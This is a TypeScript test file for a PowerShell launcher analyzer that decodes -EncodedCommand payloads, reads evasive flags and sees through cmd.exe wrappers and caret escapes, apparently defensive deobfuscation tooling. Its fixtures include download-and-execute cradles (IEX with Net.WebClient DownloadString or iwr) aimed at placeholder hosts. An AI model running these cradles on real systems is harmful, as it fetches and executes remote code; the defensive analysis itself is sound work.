// powershell.exe command lines: parameter abbreviations, cmd.exe wrappers, -EncodedCommand
// decoding (UTF-16LE base64) and what happens with broken encodings.
import { decodeEncodedCommand, looksLikeText, parseLaunch, splitWindowsArgs } from '../../../src/analyzers/powershell/launcher';

const u16 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";

describe('parseLaunch', () => {
  it.each(['-e', '-en', '-enc', '-enco', '-encodedcommand', '-EncodedCommand', '-ec', '-EC', '/enc', '-encodedC'])('decodes %s', (flag) => {
    const l = parseLaunch(`powershell.exe -nop ${flag} ${u16(SCRIPT)}`);
    expect(l.launcher).toBe(true);
    expect(l.via).toBe('encoded');
    expect(l.script).toBe(SCRIPT);
    expect(l.flags.encoded).toBe(true);
  });

  it('reads the flags attackers pair with it, in their short forms', () => {
    const l = parseLaunch(
      `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -NonI -W Hidden -Exec Bypass -Enc ${u16('whoami')}`,
    );
    expect(l.flags).toEqual({ encoded: true, hidden: true, policyBypass: true, noProfile: true, nonInteractive: true });
    expect(parseLaunch('powershell -w 1 -ep unrestricted -c whoami').flags).toMatchObject({ hidden: true, policyBypass: true });
    expect(parseLaunch('pwsh -WindowStyle h -c whoami').flags.hidden).toBe(true);
  });

  it('takes the rest of the line as -Command text, with Windows quoting removed', () => {
    expect(parseLaunch('powershell -c "IEX (iwr http://x.example/a)"').script).toBe('IEX (iwr http://x.example/a)');
    expect(parseLaunch('powershell.exe -Command Write-Host \\"hi\\"').script).toBe('Write-Host "hi"');
    expect(parseLaunch('powershell Get-Process').via).toBe('command');
    expect(parseLaunch('powershell -ExecutionPolicy Bypass -File C:\\x.ps1').via).toBe('file');
  });

  it('sees through cmd.exe wrappers and caret escapes', () => {
    expect(parseLaunch(`cmd.exe /c "powershell -ec ${u16('whoami')}"`).script).toBe('whoami');
    expect(parseLaunch(`c^md /c p^owershell -e^nc ${u16('whoami')}`).script).toBe('whoami');
    expect(parseLaunch(`C:\\Windows\\System32\\cmd.exe /q /c start /b powershell -enc ${u16('whoami')}`).script).toBe('whoami');
  });

  it('leaves a script that merely calls powershell in the middle to the script rewrite', () => {
    const script = `$x = 1\npowershell -enc ${u16('whoami')}`;
    const l = parseLaunch(script);
    expect(l.launcher).toBe(false);
    expect(l.script).toBe(script);
  });

  it('reports broken encodings instead of throwing', () => {
    expect(parseLaunch('powershell -enc !!!notbase64***').problems).toContain('-EncodedCommand value is not base64');
    const odd = parseLaunch(`powershell -enc ${Buffer.from([0x49, 0, 0x45, 0, 0x58]).toString('base64')}`);
    expect(odd.script).toBe('IE');
    expect(odd.problems.join()).toMatch(/odd byte count/);
    const binary = parseLaunch(`powershell -enc ${Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 256)).toString('base64')}`);
    expect(binary.via).toBe('none');
    expect(binary.problems.join()).toMatch(/does not decode to text/);
    expect(parseLaunch('powershell -enc').problems.join()).toMatch(/empty/);
  });

  it('accepts the UTF-8 base64 some tools produce, and says so', () => {
    const problems: string[] = [];
    expect(decodeEncodedCommand(Buffer.from('Write-Host utf8').toString('base64'), problems)).toBe('Write-Host utf8');
    expect(problems.join()).toMatch(/UTF-8/);
  });
});

describe('helpers', () => {
  it('splits arguments like the Windows C runtime', () => {
    expect(splitWindowsArgs('a "b c" d\\"e "f""g"')).toEqual(['a', 'b c', 'd"e', 'f"g']);
    expect(splitWindowsArgs('"unterminated quote here')).toEqual(['unterminated quote here']);
  });

  it('tells text from decoded noise', () => {
    expect(looksLikeText('Write-Host "é ü"')).toBe(true);
    expect(looksLikeText('潊릔Ϟ䴨靲⬆畐뾚৤')).toBe(false);
    expect(looksLikeText('')).toBe(false);
  });
});
